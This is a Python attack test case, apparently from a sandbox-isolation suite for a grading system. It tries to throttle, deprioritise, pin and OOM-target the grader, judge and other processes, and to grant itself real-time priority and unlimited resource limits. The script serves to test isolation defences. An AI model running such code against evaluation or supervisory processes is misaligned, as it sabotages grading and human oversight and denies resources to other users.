# /// attack
# title = "Takes processors, priorities and limits away from others: nice, scheduling classes, affinity, prlimit"
# [tier.process]
# run = false
# reason = "there is no sandbox in this tier: limits and priorities of the same user's processes can be changed"
# ///

# %%
import ctypes
import os
import resource

PIDS = {"grader": @GRADER_PID@, "zygote": @ZYGOTE_PID@, "judge": @JUDGE_PID@, "another kernel": @KERNEL_PID@}
libc = ctypes.CDLL(None, use_errno=True)
for who, pid in PIDS.items():
    if pid == os.getpid():
        continue
    for name, do in {
        "prlimit": lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
        "setpriority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        "setpriority of its group": lambda: os.setpriority(os.PRIO_PGRP, pid, 19),
        "affinity": lambda: os.sched_setaffinity(pid, {0}),
        "ioprio": lambda: 1 / (not libc.syscall(251, 1, pid, 3 << 13)),
        "oom": lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
        "process_mrelease": lambda: 1 / (not libc.syscall(448, os.pidfd_open(pid), 0)),
    }.items():
        print("TRIED", name, who)
        try:
            do()
            print("BROKE", name, who)
        except (OSError, ZeroDivisionError) as error:
            print(error)

# %%
print("TRIED everybody of my user")
try:
    os.setpriority(os.PRIO_USER, 0, 19)
    print("BROKE all of my user are nice")
except OSError as error:
    print(error)

# %%
for name, do in {
    "nice": lambda: os.nice(-10),
    "real time": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
    "limits": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)),
    "memory": lambda: resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
    "files": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (10**6, 10**6)),
    "core scheduling": lambda: 1 / (not libc.prctl(62, 1, 0, 0, 0)),
}.items():
    print("TRIED", name)
    try:
        do()
        if name != "real time" or os.sched_getscheduler(0) != os.SCHED_OTHER:
            print("BROKE", name)
    except (OSError, ValueError, ZeroDivisionError) as error:
        print(error)
